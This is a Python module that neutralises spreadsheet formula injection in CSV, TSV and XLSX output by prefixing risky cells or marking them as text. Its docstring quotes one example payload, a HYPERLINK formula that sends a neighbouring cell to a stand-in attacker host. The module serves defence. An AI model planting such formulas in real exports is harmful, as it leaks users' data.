"""Cells for spreadsheets: text that Excel, LibreOffice and Google Sheets show as text, never run.

Records come from pull requests by strangers, and a spreadsheet treats a cell
that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one)
as a formula: `=HYPERLINK("https://evil.example/?"&A1, "click")` in a summary
would leak a neighbouring cell, or worse (OWASP, "CSV injection"). So every
CSV, TSV and XLSX that pp writes neutralises such cells:

* CSV and TSV have no cell types, so the cell gets a leading apostrophe, the
  convention every spreadsheet honours and hides (`'=HYPERLINK(…)`). Dates
  and numbers pp writes never begin with these characters, so only text that
  would have been a formula changes.
* XLSX cells are typed: such a cell is written as a string with Excel's
  `quotePrefix` style, so the file holds exactly the text and no formula.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def risky(text: str) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    return text.startswith(FORMULA_START)


def neutralise(text: str) -> str:
    """`text` as a CSV/TSV cell that a spreadsheet shows as text: `=1+1` → `'=1+1`."""
    return "'" + text if text.startswith(FORMULA_START) else text
